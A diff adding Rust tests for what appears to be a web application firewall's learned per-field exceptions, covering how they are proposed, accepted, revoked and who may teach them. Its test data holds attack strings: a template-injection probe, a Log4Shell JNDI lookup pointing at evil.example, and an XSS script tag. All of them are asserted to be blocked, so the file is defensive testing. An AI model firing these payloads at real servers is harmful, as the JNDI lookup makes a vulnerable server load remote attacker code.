@@ -198,3 +198,139 @@ fn an_operator_decides_about_a_field() {
     assert_eq!(actions, ["field.forget", "field.keep-open"]);
     managed.stop();
 }
+
+/// What the template editor of a site sends.
+const TEMPLATE: &str = "text=Dear+%7B%7B7*7%7D%7D";
+const FORM: &str = "application/x-www-form-urlencoded";
+
+fn start_with(application: &Server, site: &str, data: &Path) -> Served {
+    let site = format!("mode = \"semantic\"\n{site}");
+    Served::start_site(application, &site, &format!("[data]\nfolder = \"{}\"\n", data.display()))
+}
+
+/// The kinds that a site has learned, from the list.
+fn kinds(data: &Path) -> Vec<Value> {
+    let listed = text(&command(&["learned", "site", "--kinds", "--json"], data));
+    let fields = listed.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
+    fields.flat_map(|field| field["kinds"].as_array().unwrap().clone()).collect()
+}
+
+/// A field in which a trusted source sends templates is proposed, accepted, and revoked; only it, and only
+/// for what it carries.
+#[test]
+fn a_field_that_carries_code() {
+    let application = application(|_| says("hello"));
+    let data = tempfile::tempdir().unwrap();
+    let trusted = "fields = { trusted = { networks = [\"127.0.0.0/8\"] } }";
+    let served = start_with(&application, trusted, data.path());
+    let post = |target: &str, body: &str| served.post(target, FORM, body).status();
+    for _ in 0..3 {
+        assert_eq!(post("/mails", TEMPLATE), 403);
+    }
+    served.counts("portcullis_learned_kinds{site=\"site\",state=\"proposed\"}", 2.0);
+    served.stop();
+    let proposed = kinds(data.path());
+    assert_eq!(proposed.len(), 2, "{proposed:?}");
+    assert_eq!((&proposed[0]["kind"], &proposed[0]["trusted"]), (&"template.arithmetic".into(), &3.into()));
+    let id = proposed[0]["id"].as_str().unwrap();
+    let unknown = command(&["learned", "accept", "site", "0000000000"], data.path());
+    assert!(String::from_utf8_lossy(&unknown.stderr).contains("help: `portcullis learned site --kinds"));
+
+    let served = start_with(&application, trusted, data.path());
+    let live = "portcullis_learned_kinds{site=\"site\",state=\"live\"}";
+    let said = text(&command(&["learned", "accept", "site", id], data.path()));
+    assert!(said.starts_with("template.arithmetic in form:text of POST /mails will be live"), "{said}");
+    served.counts(live, 1.0);
+    let post = |target: &str, body: &str| served.post(target, FORM, body).status();
+    assert_eq!(post("/mails", TEMPLATE), 200);
+    for (target, body) in [
+        ("/mails", "title=Dear+%7B%7B7*7%7D%7D"),
+        ("/other", TEMPLATE),
+        ("/mails;/x", TEMPLATE),
+        ("//mails", TEMPLATE),
+        ("/mails?text=%7B%7B7*7%7D%7D", ""),
+        ("/mails", "text=Dear+%7B%7B7*7%7D%7D+%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"),
+        ("/mails", "text=Dear+%7B%7B7*7%7D%7D+%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
+    ] {
+        assert_eq!(post(target, body), 403, "{target} {body}");
+    }
+    // The finding stays in the event, with the reason why it does not count.
+    let events = served.events(7);
+    let last: Value = serde_json::from_str(events.last().unwrap()).unwrap();
+    let findings = last["findings"].as_array().unwrap();
+    let learned = findings.iter().find(|found| found["kind"] == "template.arithmetic").unwrap();
+    assert_eq!(learned["suppressed_by"]["exception"], "learned-field");
+    let reason = learned["suppressed_by"]["reason"].as_str().unwrap();
+    assert!(
+        reason.starts_with("the field carries it: ") && reason.contains("of trusted sources"),
+        "{reason}"
+    );
+    text(&command(&["learned", "dismiss", "site", id], data.path()));
+    served.counts(live, 0.0);
+    assert_eq!(post("/mails", TEMPLATE), 403);
+}
+
+/// With `auto`, what trusted sources send is live at once; kinds that act wherever they stand never are.
+#[test]
+fn fields_open_by_themselves() {
+    let application = application(|_| says("hello"));
+    let data = tempfile::tempdir().unwrap();
+    let auto = "fields = { auto = true, trusted = { networks = [\"127.0.0.1\"] } }";
+    let served = start_with(&application, auto, data.path());
+    let lookup = "text=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D";
+    for _ in 0..3 {
+        assert_eq!(served.post("/mails", FORM, TEMPLATE).status(), 403);
+    }
+    served.counts("portcullis_learned_kinds{site=\"site\",state=\"live\"}", 2.0);
+    assert_eq!(served.post("/mails", FORM, TEMPLATE).status(), 200);
+    for _ in 0..4 {
+        assert_eq!(served.post("/mails", FORM, lookup).status(), 403);
+    }
+    served.stop();
+    let learned = kinds(data.path());
+    assert!(learned.iter().all(|kind| !kind["kind"].as_str().unwrap().starts_with("log4j.")), "{learned:?}");
+}
+
+/// Of others only those teach who have a session that the site has set, or whom the application names in its
+/// answer.
+#[test]
+fn who_teaches_kinds() {
+    let application = application(|request| {
+        let cookie = String::from_utf8_lossy(request.header("cookie").unwrap_or_default());
+        let mut answer = says("hello");
+        if request.target == "/login" {
+            answer.headers.push(("Set-Cookie".to_owned(), "session=0123456789abcdef".to_owned()));
+        }
+        if cookie.contains("editor") {
+            answer.headers.push(("X-Role".to_owned(), "editor-in-chief".to_owned()));
+        }
+        answer
+    });
+    let role = "fields = { trusted = { answer_header = { name = \"X-Role\", value = \"editor*\" } } }\n\
+                semantic = { classes = { template = \"log\" } }";
+    for (cookie, state) in [
+        ("session=0123456789abcdef", Some("seen")),
+        ("session=made-up", None),
+        ("theme=dark", None),
+        ("theme=editor", Some("proposed")),
+    ] {
+        let data = tempfile::tempdir().unwrap();
+        let served = start_with(&application, role, data.path());
+        served.get("/login");
+        let request = format!(
+            "POST /mails HTTP/1.1\r\nHost: a\r\nCookie: {cookie}\r\nX-Role: editor\r\nContent-Type: {FORM}\r\n\
+             Content-Length: {}\r\nConnection: close\r\n\r\n{TEMPLATE}",
+            TEMPLATE.len()
+        );
+        for _ in 0..3 {
+            assert_eq!(served.raw(&request).status(), 200, "{cookie}");
+        }
+        // A field that anybody teaches, so that there is something to be kept.
+        assert_eq!(served.get("/item?id=7").status(), 200);
+        served.stop();
+        let listed = text(&command(&["learned", "site", "--json"], data.path()));
+        let fields = listed.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
+        let kinds: Vec<Value> = fields.flat_map(|field| field["kinds"].as_array().unwrap().clone()).collect();
+        assert_eq!(kinds.first().map(|kind| kind["state"].as_str().unwrap()), state, "{cookie}");
+    }
+}
